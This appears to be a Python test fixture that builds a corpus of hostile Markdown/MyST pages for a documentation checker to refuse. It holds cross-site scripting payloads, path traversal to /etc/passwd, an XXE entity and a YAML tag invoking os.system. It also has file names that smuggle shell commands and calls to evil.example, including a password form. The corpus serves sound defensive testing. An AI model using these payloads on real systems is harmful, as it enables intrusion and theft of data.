"""Pages that an attacker could send, each named by what it attempts.

``CANARY`` is a file that exists only if code on a page has run. ``SECRET`` is the text of a file that no page may
show. Names become file names, so each attempt has its own page.
"""

from __future__ import annotations

import re

from traceability.source import limits

CANARY = "canary"
SECRET = "The weights lie in the vault."
RUN = f"open('{CANARY}', 'w')"


def statement(*options: str, id: str = "CTRL-COPY", title: str = "Copy weights", text: str = "Make copies.") -> str:
    """Return a page with one statement that is valid except for the given parts."""
    return "\n".join(("# Weights", "", f":::{{control}} {title}", f":id: {id}", *options, "", text, ":::", ""))


ADDRESSES = {
    "a script address": "[x](javascript:alert(1))",
    "a script address in capitals": "[x](JaVaScRiPt:alert(1))",
    "a script address with references": "[x](&#106;avascript:alert(1))",
    "a script address with a tab": "[x](java&Tab;script:alert(1))",
    "a script address with a line end": "[x](<java&NewLine;script:alert(1)>)",
    "a script address behind a space": "[x](&#32;javascript:alert(1))",
    "a script address behind a control": "[x](&#1;javascript:alert(1))",
    "a script address in percent": "[x](javascript%3Aalert(1))",
    "a script address of Windows": "[x](vbscript:msgbox)",
    "a page as data": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "an address between angles": "<javascript:alert(1)>",
    "a mail address between angles": "<weights@example.org>",
    "a file of the machine": "[x](file:///etc/passwd)",
    "a path of the machine": "[x](/etc/passwd)",
    "a path out of the tree": "[x](../../../../etc/passwd)",
    "a path in percent out of the tree": "[x](..%2f..%2fconf.py)",
    "a path of Windows": r"[x](..\..\conf.py)",
    "another host without scheme": "[x](//evil.example/weights)",
    "another host behind a name": "[x](https://nist.gov@evil.example/)",
    "another host behind a backslash": r"[x](https://nist.gov\\@evil.example/)",
    "a port for something else": "[x](https://nist.gov:22/)",
    "a host in homoglyphs": "[x](https://n\u0456st.gov/)",
    "a host without encryption": "[x](http://nist.gov/)",
    "a link by MyST": "[x](project:../../conf.py)",
    "a link into an inventory": "[x](inv:*#weights)",
    "a download by MyST": "[x](path:../../conf.py)",
    "a definition far away": "[x][far]\n\n[far]: javascript:alert(1)",
    "a definition over lines": "[x][a  b]\n\n[a\n b]:\n javascript:alert(1)",
    "a picture that calls home": "![x](https://evil.example/pixel.png)",
    "a picture with a script": "![x](javascript:alert(1))",
}
"""Links with targets that the check must refuse."""

HTML = {
    "a script": "<script>alert(1)</script>",
    "a script in capitals": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "a script in a sentence": "Weights <script>alert(1)</script> are copied.",
    "a script over lines": "Weights <script\n>alert(1)</script\n> are copied.",
    "an attribute that is a script": "Weights <b onclick=alert(1)>are copied</b>.",
    "a picture that is none": "<img src=x onerror=alert(1)>",
    "a drawing that runs": "<svg/onload=alert(1)>",
    "a frame": '<iframe src="https://evil.example"></iframe>',
    "a form": '<form action="https://evil.example"><input name=password></form>',
    "a style": "<style>body{display:none}</style>",
    "a base": '<base href="https://evil.example/">',
    "a refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "a comment": "<!-- weights --> weights",
    "a comment over lines": "<!--\nweights\n-->",
    "an instruction": "<?php system('id') ?>",
    "a declaration": "<!DOCTYPE weights [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
    "a data section": "<![CDATA[<script>alert(1)</script>]]>",
    "an element in a list": "- a\n\n  <div onmouseover=alert(1)>weights</div>",
    "an element in a heading": "## <a name=x onmouseover=alert(1)>weights</a>",
    "an element in a footnote": "Weights[^a].\n\n[^a]: <b onclick=alert(1)>copied</b>",
    "an element without end": "<div\nonclick=alert(1)\n",
    "an element behind a quotation": "> <script>alert(1)</script>",
}
"""Raw HTML in various disguises."""

MARKUP = {
    "a filter that runs": f":::{{needtable}}\n:filter: {RUN}\n:::",
    "a filter by a function": ":::{needlist}\n:filter-func: os.system\n:::",
    "a list that runs": f":::{{needlist}}\n:filter: {RUN}\n:::",
    "a chart that runs": f":::{{needpie}} Weights\n:labels: a\n\n{RUN}\n:::",
    "a change of other statements": ":::{needextend} CTRL-COPY\n:status: accepted\n:::",
    "statements from elsewhere": ":::{needimport} https://evil.example/needs.json\n:::",
    "a service": ":::{needservice} github-issues\n:::",
    "a template": ":::{needreport}\n:template: /etc/passwd\n:::",
    "an included file": ":::{include} ../../secret.txt\n:::",
    "an included file in backticks": "```{include} ../../secret.txt\n```",
    "an included file in tildes": "~~~{include} ../../secret.txt\n~~~",
    "an included file in a list": "- a\n\n  :::{include} ../../secret.txt\n  :::",
    "an included file in a quotation": "> :::{include} ../../secret.txt\n> :::",
    "an included file within a fence": "::::{note}\n:::{include} ../../secret.txt\n:::\n::::",
    "a file as code": ":::{literalinclude} ../../secret.txt\n:::",
    "a table from a file": ":::{csv-table}\n:file: ../../secret.txt\n:::",
    "a table from an address": ":::{csv-table}\n:url: https://evil.example/x.csv\n:::",
    "a raw directive": ":::{raw} html\n<script>alert(1)</script>\n:::",
    "another markup": "```{eval-rst}\n.. raw:: html\n\n   <script>alert(1)</script>\n```",
    "a program that is run": f":::{{exec}}\n{RUN}\n:::",
    "a picture of a program": ":::{graphviz} ../../secret.txt\n:::",
    "a condition that runs": f":::{{only}} {RUN}\n:::",
    "a module that is imported": ":::{automodule} os\n:::",
    "a place in the tree": ":::{toctree}\nhttps://evil.example\n:::",
    "a role that is raw": "{raw-html}`<script>alert(1)</script>`",
    "a role that makes roles": ":::{role} raw-html(raw)\n:format: html\n:::",
    "a role that downloads": "{download}`../../secret.txt`",
    "a role that counts by filter": "{need_count}`" + RUN + "`",
    "a role that calls a function": "{ndf}`echo('weights')`",
    "a role that evaluates": "{eval}`1`",
    "a substitution": "{{ weights }}",
    "a function in a title": statement(title="[[copy('id', 'CTRL-COPY')]]"),
    "a template in a title": statement(title="{{ ''.__class__ }}"),
    "a target": "(PD1-S04)=\nWeights.",
    "attributes of MyST": "{.weights #PD1-S04}\nWeights.",
    "a comment of MyST": "% :::{control} Weights",
    "a break of MyST": "+++ {}",
    "front matter with a substitution": "---\nmyst:\n  substitutions:\n    x: <script>alert(1)</script>\n---\n\nWeights.",
    "front matter with an object": "---\nx: !!python/object/apply:os.system [touch canary]\n---\n\nWeights.",
    "a fence that swallows": "```{control} Copy `weights`\n:id: CTRL-COPY\n\nx\n```\n\n" + statement(id="CTRL-SPREAD"),
    "a fence that goes on": ":::{control} Weights\n:id: CTRL-COPY\n\nx",
    "a fence in a fence": "::::{control} Weights\n:id: CTRL-COPY\n\n:::{control} Copies\n:id: CTRL-SPREAD\n\nx\n:::\n::::",
    "a statement in a list": "- :::{control} Weights\n  :id: CTRL-COPY\n\n  x\n  :::",
    "a statement as code": "    :::{control} Weights\n    :id: CTRL-COPY\n",
    "a kind in homoglyphs": ":::{t\u0435rm} Weights\n:id: CTRL-COPY\n\nx\n:::",
    "a kind with a domain": ":::{needs:term} Weights\n:id: CTRL-COPY\n\nx\n:::",
}
"""Markup that includes files, runs code or hides text."""

OPTIONS = {
    "an alias of YAML": statement(":synonyms: *weights"),
    "an id in small letters": statement(id="ctrl-copy"),
    "an id of another kind": statement(id="ALT-001"),
    "an anchor of YAML": statement(":synonyms: &weights copies"),
    "a tag of YAML": statement(":synonyms: !!python/name:os.system"),
    "a laugh a billion times": statement(*(f":a{n}: [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 10))),
    "a table of YAML": statement(":synonyms: {a: b}"),
    "a list of YAML": statement(":synonyms: [a, b]"),
    "a text of YAML": statement(":synonyms: |"),
    "a comment of YAML": statement(":synonyms: weights # and what nobody sees"),
    "a key in a value": statement(":synonyms: weights: copies"),
    "options between dashes": ":::{control} Weights\n---\nid: CTRL-COPY\n---\nx\n:::",
    "a value that goes on": statement(":synonyms: weights,", "  copies"),
    "a function in an option": statement(":synonyms: [[echo('weights')]]"),
    "a variant in an option": statement(":synonyms: <<[True]:weights>>"),
    "an option that Sphinx-Needs has": statement(":template: ../../secret.txt"),
    "an option that hides": statement(":hide: "),
    "a jinja option": statement(":jinja_content: true", text="{{ ''.__class__.__mro__ }}"),
    "a second id": statement(":id: CTRL-SPREAD"),
    "a statement without id": ":::{control} Weights\n\nx\n:::",
    "an id that turns around": statement(id="CTRL-\u202eYPOC"),
    "an id with an invisible space": statement(id="CTRL-CO\u200bPY"),
    "an id with a soft hyphen": statement(id="CTRL-CO\u00adPY"),
    "an id in Greek": statement(id="CTRL-C\u039fPY"),
    "an id in wide letters": statement(id="\uff23TRL-COPY"),
    "an id with a combining mark": statement(id="CTRL-C\u0307OPY"),
    "an id with a slash": statement(id="CTRL-/../../COPY"),
    "an id with markup": statement(id="<b>CTRL-COPY</b>"),
    "an id with a filler": statement(id="CTRL-COPY\u3164"),
    "an option with an invisible mark": statement(":synonyms\u2060: weights"),
    "a text that turns around": statement(text="Weights are \u2067deipoc\u2069 once."),
    "a text with a terminal code": statement(text="Weights \x1b[2J\x1b]0;owned\x07 are copied."),
    "a text with a tag character": statement(text="Weights \U000e0041 are copied."),
    "a text in references": statement(text="Weights &#x202e;deipoc&#x202c; once."),
    "a text with a null": statement(text="Weights \0 are copied."),
    "a text with line ends of its own": statement(text="Weights\u2028:::\u2029are copied."),
}
"""Options and ids that a program reads differently from how they look."""

LARGE = {
    "a page without end": "a" * 4 * limits.PAGE,
    "lines without end": "a\n" * limits.LINES,
    "a line without end": "a" * (limits.LINE + 1),
    "lists without end": "\n".join(f"{'  ' * depth}- a" for depth in range(300)),
    "quotations without end": ">" * 1900 + " a",
    "brackets without end": "[" * (limits.BRACKETS + 1),
    "pictures without end": "![" * 900,
    "footnotes without end": "^[" * 900,
    "emphasis without end": "*_" * limits.LINE,
    "cells without end": "|a" * 50 + "\n" + "|-" * 50 + "\n" + "|\n" * (limits.CELLS // 50),
    "fences without end": "\n".join(":" * (3 + depth) + "{control} x" for depth in range(200)),
    "definitions without end": "".join(f"[{number}]: x\n" for number in range(900)),
    "a paragraph without end": "weights\n" * 4000,
    "an option that names everything": f":::{{standing}} Copies\n:id: STAND-COPY-1\n:control: {', '.join(['CTRL-COPY'] * 150)}\n:modes: MODE-A\n:stands: kept\n\nx\n:::",
    "a text that cites everything": statement(text="{need}`CTRL-COPY`\n" * 200),
    "a number without end": ":::{recommendation} Weights\n:id: PD1-R1-1-1\n:force: directive\n:lines: 1\n:part_of: PD1-P1-1\n:page: "
    + "9" * 1900
    + "\n\nx\n:::",
}
"""Pages with a little more text, links or markup than our limits allow; what is far beyond them keeps parsers busy."""

AROUND = {
    "an included file": ":::{include} ../../secret.txt\n:::",
    "a file as code": "```{literalinclude} ../../secret.txt\n```",
    "a file compared": "```{literalinclude} ../weights.toml\n:diff: ../../secret.txt\n```",
    "a file by its whole path": "```{literalinclude} /../secret.toml\n```",
    "another markup": "```{eval-rst}\n.. include:: ../../secret.txt\n```",
    "a filter that runs": f"```{{needtable}}\n:filter: {RUN}\n```",
    "a filter in a sum": "{need_count}`" + RUN + "`",
    "a script": "<script>alert(1)</script>",
    "an attribute that is a script": '<a href="../data/x.json" onclick="alert(1)">x</a>',
    "a script for a file of data": '<a href="javascript:alert(1)">x</a>',
    "a script address": "[x](javascript:alert(1))",
    "a script address in the tree": "```{toctree}\nWeights <javascript:alert(1)>\n```",
    "a script in a view": ":::{view} legend\n<script>alert(1)</script>\n:::",
    "a view of another file": ":::{view} release-statement ../../secret\n:::",
    "a statement": statement(),
    "a view without end": ":::{view} legend\n\nWhat nobody sees.",
    "front matter": "---\nmyst:\n  html_meta:\n    refresh: 0;url=https://evil.example\n---\n\nx",
    "a substitution": "---\nhide-toc: true\nmyst:\n  substitutions: {x: y}\n---\n\n{{ x }}",
    "a picture that calls home": "![x](https://evil.example/pixel.png)",
    "a text that turns around": "Weights are \u202edeipoc once.",
    "a page without end": "a" * 4 * limits.PAGE,
    "brackets without end": "[" * (limits.BRACKETS + 1),
}
"""The same attempts on non-policy pages."""

NAMES = {
    "requirements/a page.md": "a space",
    "requirements/-rf.md": "a leading dash",
    "requirements/Weights.md": "a capital",
    "requirements/we\u0456ghts.md": "a homoglyph",
    "requirements/we\u200bights.md": "an invisible character",
    "requirements/\u202estghiew.md": "a text that turns around",
    "requirements/a\nb.md": "a line end",
    "requirements/a\x1b[2J.md": "a terminal code",
    "requirements/.hidden/weights.md": "a hidden folder",
    "requirements/.md": "an ending alone",
    "requirements/a;touch canary;.md": "a command",
    "requirements/$(touch canary).md": "a substitution",
    "requirements/<script>.md": "an element",
    "requirements/weights.MD": "an ending in capitals",
    "requirements/weights.rst": "another markup",
    "requirements/weights.md.txt": "a second ending",
    "docs/Weights.md": "a capital",
    "docs/weights.rst": "another markup",
}
"""Paths that a page must not have, and what is wrong with each."""

LINKS = {
    "requirements/link.md": "/etc/passwd",
    "requirements/inside.md": "sources.toml",
    "requirements/folder": "/etc",
    "requirements/loop": ".",
    "requirements/nowhere.md": "does-not-exist",
    "docs/link.md": "../secret.txt",
    "docs/_static/link.png": "/etc/passwd",
    "docs/_static/folder": "/etc",
    "tests/examples/link.md": "/etc/passwd",
}
"""Symbolic links and their targets."""


def slug(name: str) -> str:
    """Return the name of the page for an attempt."""
    return re.sub(r"[^a-z0-9]+", "-", name.lower()).strip("-")


PAGES: dict[str, str] = {
    f"requirements/hostile/{slug(name)}.md": text if text.startswith(("# ", "---", "%")) else f"# Weights\n\n{text}\n"
    for table in (ADDRESSES, HTML, MARKUP, OPTIONS, LARGE)
    for name, text in table.items()
} | {
    f"docs/hostile/{slug(name)}.md": text if text.startswith("---") else f"# Weights\n\n{text}\n"
    for name, text in AROUND.items()
}
"""Every page of the corpus, by its path."""
